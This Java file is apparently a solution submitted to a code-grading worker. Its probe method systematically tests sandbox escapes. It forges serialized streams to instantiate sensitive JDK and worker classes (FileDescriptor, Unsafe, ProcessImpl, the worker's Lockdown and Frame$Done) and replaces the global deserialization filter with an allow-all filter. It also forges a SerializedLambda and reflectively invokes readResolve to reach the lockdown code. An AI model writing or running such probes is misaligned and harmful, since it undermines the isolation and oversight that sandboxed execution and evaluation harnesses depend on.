import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.InputStream;
import java.io.ObjectInputFilter;
import java.io.ObjectInputStream;
import java.io.ObjectStreamClass;
import java.io.ObjectStreamConstants;
import java.lang.invoke.SerializedLambda;

class Solution {
  String probe(String folder, int port, int web, long host) throws Throwable {
    EscapeProbe doors = new EscapeProbe();
    String[] classes = {
      "java.io.FileDescriptor", "java.lang.Thread", "java.lang.ClassLoader", "java.lang.Module",
      "java.lang.invoke.MethodHandles$Lookup", "jdk.internal.misc.Unsafe", "java.lang.ProcessImpl",
      "dev.assay.worker.Syscalls", "dev.assay.worker.Lockdown", "dev.assay.worker.CaseRunner",
      "dev.assay.worker.Frame$Done"
    };
    for (String name : classes) {
      doors.attempt(name, () -> new Forged(name).readObject());
    }
    return doors
        .attempt("no filter", () -> {
          ObjectInputFilter.Config.setSerialFilter(info -> ObjectInputFilter.Status.ALLOWED);
          return new Forged("java.io.FileDescriptor").readObject();
        })
        .attempt("a lambda elsewhere", () -> {
          SerializedLambda lambda = new SerializedLambda(
              ClassLoader.getSystemClassLoader().loadClass("dev.assay.worker.WarmUpSolution"),
              "java/util/Comparator", "compare", "(Ljava/lang/Object;Ljava/lang/Object;)I",
              6, "dev/assay/worker/Lockdown", "need", "(Ljava/lang/String;J)V", "()V", new Object[0]);
          var resolve = SerializedLambda.class.getDeclaredMethod("readResolve");
          resolve.setAccessible(true);
          return resolve.invoke(lambda);
        })
        .verdict();
  }

  /** A stream of one object of a class, found by any loader, without fields. */
  private static final class Forged extends ObjectInputStream {
    Forged(String name) throws Exception {
      super(stream(name));
    }

    private static InputStream stream(String name) throws Exception {
      Class<?> type = ClassLoader.getSystemClassLoader().loadClass(name);
      ObjectStreamClass description = ObjectStreamClass.lookupAny(type);
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      DataOutputStream out = new DataOutputStream(bytes);
      out.writeShort(ObjectStreamConstants.STREAM_MAGIC);
      out.writeShort(ObjectStreamConstants.STREAM_VERSION);
      out.writeByte(ObjectStreamConstants.TC_OBJECT);
      out.writeByte(ObjectStreamConstants.TC_CLASSDESC);
      out.writeUTF(name);
      out.writeLong(description.getSerialVersionUID());
      out.writeByte(ObjectStreamConstants.SC_SERIALIZABLE);
      out.writeShort(0);
      out.writeByte(ObjectStreamConstants.TC_ENDBLOCKDATA);
      out.writeByte(ObjectStreamConstants.TC_NULL);
      return new ByteArrayInputStream(bytes.toByteArray());
    }

    @Override
    protected Class<?> resolveClass(ObjectStreamClass description) throws ClassNotFoundException {
      return ClassLoader.getSystemClassLoader().loadClass(description.getName());
    }
  }
}
